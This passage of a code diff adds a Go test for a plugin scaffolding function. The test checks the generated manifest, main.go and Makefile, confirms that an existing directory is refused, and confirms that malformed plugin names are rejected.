+	if err := yaml.Unmarshal(manifest, &parsed); err != nil {
+		t.Fatalf("generated manifest is not valid YAML: %v", err)
+	}
+	if parsed.Name != "cost-report" || parsed.Binary != "cost-report" || parsed.Description != `Reports "costs"` {
+		t.Errorf("unexpected manifest: %+v", parsed)
+	}
+
+	source, err := os.ReadFile(filepath.Join(dir, "main.go"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	file, err := parser.ParseFile(token.NewFileSet(), "main.go", source, 0)
+	if err != nil {
+		t.Fatalf("generated main.go does not parse: %v", err)
+	}
+	if !strings.Contains(string(source), "type CostReportPlugin struct") || !strings.Contains(string(source), "plugins.Serve(&CostReportPlugin{})") {
+		t.Errorf("expected main.go to serve CostReportPlugin, got:\n%s", source)
+	}
+	if file.Name.Name != "main" {
+		t.Errorf("expected package main, got %s", file.Name.Name)
+	}
+
+	if makefile, _ := os.ReadFile(filepath.Join(dir, "Makefile")); !strings.Contains(string(makefile), "\tgo build -o $(NAME) .") {
+		t.Errorf("expected tab-indented Makefile recipes, got:\n%s", makefile)
+	}
+
+	// An existing directory is left alone
+	os.WriteFile(filepath.Join(dir, "main.go"), []byte("custom"), 0644)
+	if err := Scaffold(dir, ScaffoldOptions{Name: "cost-report"}); err == nil || !strings.Contains(err.Error(), "already exists") {
+		t.Errorf("expected Scaffold to refuse an existing directory, got %v", err)
+	}
+	if data, _ := os.ReadFile(filepath.Join(dir, "main.go")); string(data) != "custom" {
+		t.Error("expected the existing main.go to be kept")
+	}
+
+	for _, name := range []string{"", "x", "Cost", "1cost", "cost-", "cost--report", "cost/report", "cost_report"} {
+		if err := Scaffold(filepath.Join(t.TempDir(), "p"), ScaffoldOptions{Name: name}); err == nil {
+			t.Errorf("expected name %q to be rejected", name)
+		}
+	}
+}